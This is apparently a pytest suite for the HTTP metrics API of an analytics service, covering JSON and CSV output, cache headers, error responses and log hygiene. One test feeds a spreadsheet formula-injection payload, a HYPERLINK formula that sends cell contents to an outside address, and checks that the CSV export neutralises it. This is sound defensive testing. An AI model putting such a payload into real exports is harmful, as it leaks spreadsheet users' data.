"""The plain HTTP doors: a question in the address, an answer as JSON or CSV, a refusal as one sentence."""

import asyncio
import csv
import io
import logging
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.types import Message

from asgi import client_of
from fake_desk import FakeDesk, column
from tidemark.doors.manual import EXAMPLES
from tidemark.doors.routes import add_doors
from tidemark.query.caller import Caller
from tidemark.query.catalogue import load
from tidemark.query.errors import Code, QueryError
from tidemark.query.frame import ColumnKind
from tidemark.query.words import WORDS
from tidemark.settings import Settings

CATALOGUE = load(Settings().catalogue)


@pytest.fixture
def desk() -> FakeDesk:
    return FakeDesk()


@pytest.fixture
def counted() -> list[str]:
    return []


def caller_of(request: Request) -> Caller:
    return Caller.of(key=request.headers.get("x-key"), address="192.0.2.1")


@pytest.fixture
def client(desk: FakeDesk, counted: list[str]) -> Iterator[httpx.Client]:
    app = Starlette()
    add_doors(app, desk, CATALOGUE, caller_of, currency="EUR", count_error=counted.append)
    with client_of(app) as client:
        yield client


def test_json_holds_an_object_a_row_and_says_how_far_it_is_complete(
    client: httpx.Client, desk: FakeDesk
) -> None:
    response = client.get("/v1/metrics?metrics=clicks,ctr&by=campaign&last=1m", headers={"x-key": "secret"})
    assert response.status_code == 200
    assert response.headers["content-type"] == "application/json"
    assert response.json() == {
        "columns": [
            {"name": "campaign", "kind": "DIMENSION", "unit": None},
            {"name": "clicks", "kind": "METRIC", "unit": None},
            {"name": "ctr", "kind": "METRIC", "unit": "fraction"},
        ],
        "rows": [
            {"campaign": "summer", "clicks": 1500, "ctr": 0.15},
            {"campaign": "winter", "clicks": 3, "ctr": None},
        ],
        "rowCount": 2,
        "truncated": False,
        "resolved": {
            "from": "2026-11-23T11:59:00Z",
            "to": "2026-11-23T12:01:00Z",
            "grain": None,
            "timezone": "UTC",
            "source": "campaign_minute",
            "previousFrom": None,
            "previousTo": None,
        },
        "freshness": {
            "now": "2026-11-23T12:00:17Z",
            "completeThrough": "2026-11-23T12:00:15.200Z",
            "auditedThrough": None,
            "lagMs": 1800.0,
            "openBucket": True,
        },
        "cost": {
            "rowsRead": 1234,
            "bytesRead": 56789,
            "elapsedMs": 3.21,
            "cacheHit": False,
            "charged": 0.0112,
            "remaining": 2999.5,
        },
    }
    assert desk.callers == [Caller.of(key="secret", address="192.0.2.1")]


def test_every_form_has_the_watermark_and_the_cost_in_its_headers(client: httpx.Client) -> None:
    for path, accept in (
        ("/v1/metrics", "text/csv;q=0, */*"),
        ("/v1/metrics", "text/csv"),
        ("/v1/metrics.csv", "*/*"),
    ):
        headers = client.get(f"{path}?metrics=clicks", headers={"Accept": accept}).headers
        assert headers["tidemark-complete-through"] == "2026-11-23T12:00:15.200Z"
        assert "tidemark-audited-through" not in headers  # not known yet
        assert headers["tidemark-source"] == "campaign_minute"
        assert headers["tidemark-truncated"] == "false"
        assert headers["tidemark-cost"] == (
            "charged=0.0112, remaining=2999.5, rows-read=1234, elapsed-ms=3.2, cache-hit=?0"
        )
        assert headers["vary"] == "Accept"


def test_csv_is_what_a_spreadsheet_reads(client: httpx.Client, desk: FakeDesk) -> None:
    desk.columns = lambda _: (
        column("bucket", ["2026-11-22T23:00:00Z", "2026-11-22T23:00:00Z"], ColumnKind.BUCKET),
        column("other", [False, True], ColumnKind.OTHER),
        column("campaign", ['a,"b"\nc', None], ColumnKind.DIMENSION),
        column("clicks", [-3, 2**70]),
        column("ctr", [0.1, None], unit="fraction"),
    )
    response = client.get("/v1/metrics.csv?metrics=clicks,ctr&by=campaign&grain=day&tz=Europe/Berlin")
    assert response.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    assert response.text == (
        "bucket,other,campaign,clicks,ctr\r\n"
        '2026-11-23T00:00:00+01:00,false,"a,""b""\nc",-3,0.1\r\n'
        "2026-11-23T00:00:00+01:00,true,,1180591620717411303424,\r\n"
    )
    utc = client.get("/v1/metrics?metrics=clicks&grain=day", headers={"Accept": "text/csv"}).text
    assert "2026-11-22T23:00:00Z,false" in utc


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_a_campaign_cannot_run_a_formula_in_a_spreadsheet(
    client: httpx.Client, desk: FakeDesk, first: str
) -> None:
    name = f'{first}HYPERLINK("http://192.0.2.1/?"&A1,"x")'
    desk.columns = lambda _: (column("campaign", [name, f"a{first}"], ColumnKind.DIMENSION),)
    text = client.get("/v1/metrics.csv?by=campaign").text
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["campaign"], [f"'{name}"], [f"a{first}"]]


def test_an_answer_that_the_client_has_is_not_sent_again(client: httpx.Client, desk: FakeDesk) -> None:
    for path in ("/v1/metrics?metrics=clicks", "/v1/metrics.csv?metrics=clicks"):
        tag = client.get(path).headers["etag"]
        for known in (tag, f'"other", {tag.removeprefix("W/")}', "*"):
            again = client.get(path, headers={"If-None-Match": known})
            assert (again.status_code, again.content) == (304, b"")
            assert again.headers["tidemark-complete-through"]
        assert client.get(path, headers={"If-None-Match": '"other"'}).status_code == 200
        before, desk.columns = desk.columns, lambda _: (column("clicks", [1504]),)
        assert client.get(path, headers={"If-None-Match": tag}).status_code == 200
        desk.columns = before


@pytest.mark.parametrize(
    ("code", "status", "after"),
    [
        (Code.RANGE_TOO_LONG, 400, None),
        (Code.TOO_EXPENSIVE, 400, None),
        (Code.BUDGET_EXHAUSTED, 429, "2"),
        (Code.TOO_MANY_QUERIES, 429, "2"),
        (Code.QUERY_TIMEOUT, 504, None),
    ],
)
def test_a_refusal_says_what_to_do(
    client: httpx.Client, desk: FakeDesk, counted: list[str], code: Code, status: int, after: str | None
) -> None:
    wait = {"retryAfterMs": 1200} if after else {}
    desk.failure = QueryError(
        code, "Too much; ask for less.", limit=10, requested=11, suggestion={"grain": "HOUR"}, **wait
    )
    response = client.get("/v1/metrics?metrics=clicks")
    assert response.status_code == status
    assert response.headers["content-type"] == "application/problem+json"
    assert response.headers.get("retry-after") == after
    assert response.json() == {
        "status": status,
        "code": code,
        "message": "Too much; ask for less.",
        "limit": 10,
        "requested": 11,
        "suggestion": {"grain": "hour"},
        **wait,
    }
    as_text = client.get("/v1/metrics.csv?metrics=clicks")
    assert (as_text.status_code, as_text.headers.get("retry-after")) == (status, after)
    assert as_text.headers["content-type"] == "text/plain; charset=utf-8"
    assert as_text.headers["tidemark-code"] == code
    assert as_text.text == "Too much; ask for less. Accepted would be: grain=hour\n"
    assert counted == [code, code]


def test_a_word_that_is_unknown_is_refused_with_the_known_ones(client: httpx.Client) -> None:
    answer = client.get("/v1/metrics?metrics=clicks&dimensions=campaign").json()
    assert answer["code"] == "BAD_PARAMETER"
    assert all(word.name in answer["message"] for word in WORDS)


def test_what_nobody_expected_stays_behind_an_id_and_its_values_out_of_the_log(
    client: httpx.Client, desk: FakeDesk, caplog: pytest.LogCaptureFixture
) -> None:
    desk.failure = RuntimeError("DB::Exception: in WHERE campaign_id = 'their secret'")
    with caplog.at_level(logging.ERROR):
        response = client.get("/v1/metrics?metrics=clicks")
    assert response.status_code == 500
    answer = response.json()
    assert answer["code"] == "INTERNAL"
    assert answer["request"] in answer["message"]
    assert answer["request"] in caplog.text
    assert "RuntimeError" in caplog.text
    assert response.headers["x-request-id"] == answer["request"]
    assert "secret" not in caplog.text + response.text


def test_explain_tells_the_plan_and_runs_it_only_when_asked(client: httpx.Client) -> None:
    words = "/v1/explain?metrics=clicks&where=campaign=summer"
    told = client.get(words).json()
    assert told["parts"] == [
        {"source": "campaign_minute", "from": "2026-11-23T11:00:00Z", "to": "2026-11-23T12:01:00Z"}
    ]
    assert told["parameters"] == [{"name": "where_0", "type": "Array(String)", "value": ["summer"]}]
    assert (told["estimatedRows"], told["price"], told["run"]) == (2_000_000, 2.01, None)
    ran = client.get(f"{words}&analyze=true").json()["run"]
    assert ran == {"rowsRead": 1_900_000, "bytesRead": 30_000_000, "elapsedMs": 12.5}
    wrong = client.get(f"{words}&analyze=yes").json()
    assert wrong["message"] == "analyze cannot be read; write true or false, once."


def test_the_catalogue_names_what_can_be_asked(client: httpx.Client) -> None:
    told = client.get("/v1/catalogue").json()
    assert told["version"] == CATALOGUE.version
    ctr = next(one for one in told["metrics"] if one["name"] == "ctr")
    assert (ctr["unit"], ctr["expression"], ctr["interval"]) == ("fraction", "CLICKS / IMPRESSIONS", True)
    assert next(one for one in told["metrics"] if one["name"] == "spend")["unit"] == "EUR"
    names = ",".join(one["name"] for one in told["metrics"])
    by = ",".join(one["name"] for one in told["dimensions"])
    assert client.get("/v1/metrics", params={"metrics": names, "by": by}).status_code == 200


def test_the_limits_can_be_asked_before_a_question(client: httpx.Client) -> None:
    told = client.get("/v1/limits").json()
    assert (told["maxRows"], told["timeoutMs"], told["budgetPerMinute"]) == (10_000, 10_000, 3000)
    assert told["notOlderThan"].startswith("1996-")


def test_openapi_describes_every_door_and_every_word(client: httpx.Client) -> None:
    told: dict[str, Any] = client.get("/openapi.json").json()
    assert told["openapi"] == "3.1.0"
    words = {one["name"]: one for one in told["paths"]["/v1/metrics"]["get"]["parameters"]}
    assert list(words) == [word.name for word in WORDS]
    assert words["where"]["schema"]["type"] == "array"
    for path, door in told["paths"].items():
        if "experiments" not in path and "get" in door:  # those have words of their own
            assert client.get(f"{path}?metrics=clicks").status_code == 200
        for operation in door.values():
            assert {"200", "400", "429", "500", "504"} <= operation["responses"].keys()


def test_the_page_loads_nothing_from_elsewhere_and_its_examples_work(client: httpx.Client) -> None:
    page = client.get("/docs/api").text
    assert "src=" not in page
    assert "://" not in page
    assert all(word.name in page for word in WORDS)
    for _, path in EXAMPLES:
        assert client.get(path).status_code == 200, path


def test_a_client_that_hangs_up_ends_its_question() -> None:
    async def scene() -> None:
        desk, app = FakeDesk(held=True), Starlette()
        add_doors(app, desk, CATALOGUE, caller_of, currency="EUR", count_error=lambda _: None)
        messages = [{"type": "http.request", "body": b"", "more_body": False}]

        async def receive() -> Message:
            if messages:
                return messages.pop()
            await desk.came.wait()
            return {"type": "http.disconnect"}

        async def send(message: Message) -> None:
            raise AssertionError(f"nobody is there to get {message['type']}")

        scope = {
            "type": "http", "method": "GET", "path": "/v1/metrics", "query_string": b"metrics=clicks",
            "headers": [], "client": ("192.0.2.1", 1),
        }  # fmt: skip
        await asyncio.wait_for(app(scope, receive, send), 5)
        assert (len(desk.asked), desk.waiting) == (1, 0)

    asyncio.run(scene())


def test_other_methods_are_refused(client: httpx.Client) -> None:
    assert client.post("/v1/metrics?metrics=clicks").status_code == 405
    assert client.head("/v1/metrics?metrics=clicks").status_code == 200


def test_a_body_that_nobody_needs_is_not_kept_in_memory(client: httpx.Client) -> None:
    found = client.request("GET", "/v1/metrics?metrics=clicks", content=b"x" * 10_001)
    assert found.status_code == 413
